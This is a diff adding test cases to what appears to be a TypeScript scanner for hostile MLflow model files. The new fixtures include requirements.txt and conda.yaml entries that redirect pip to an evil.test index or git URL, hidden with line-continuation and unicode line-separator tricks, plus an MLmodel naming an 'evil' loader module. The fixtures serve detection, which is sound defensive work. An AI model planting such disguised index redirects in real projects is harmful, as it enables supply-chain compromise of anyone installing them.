@@ -78,6 +78,11 @@ describe('descriptions of MLflow', () => {
     expect(one!.what).toBe('`evil._load_pyfunc` is imported and called.');
   });
 
+  test.each(['\r', '\r\n', '\x85', '\u2028', '\u2029'])('end their lines as PyYAML does: %j', async (end) => {
+    const text = `flavors:${end}  python_function: # one${end}    loader_module: evil${end}`;
+    expect(await whats('MLmodel', text)).toEqual(['named-code: `evil._load_pyfunc` is imported and called.']);
+  });
+
   test('are told once where they say it twice', async () => {
     const flavors = { python_function: { code: 'code' }, sklearn: { code: 'code' } };
     expect(await found('MLmodel', mlmodel(flavors))).toHaveLength(1);
@@ -184,6 +189,14 @@ describe('requirements', () => {
     ['conda.yaml', 'dependencies:\n- pip:\n  - "git+https://evil.test/evil"\n'],
     ['conda.yaml', 'channels:\n- https://evil.test/channel\n'],
     ['requirements.txt', '--index-\\\nurl http://evil.test'],
+    ['requirements.txt', '# a comment \\\n-i http://evil.test'],
+    ['requirements.txt', 'numpy\\\n# a comment\n-i http://evil.test'],
+    ['requirements.txt', '-\\\\\ni http://evil.test'],
+    ...['\r', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'].map((end) => [
+      'requirements.txt',
+      `numpy # as saved${end}-i http://evil.test`,
+    ]),
+    ['conda.yaml', 'dependencies:\n- pip: # as saved\u2028  - git+https://evil.test/evil\n'],
     ['requirements.txt', '-i http://evil.test/?https://pypi.org/simple'],
     ['requirements.txt', '-i https://pypi.org/simple.evil.test'],
     ['requirements.txt', '-i https://pypi.org/simple@evil.test'],
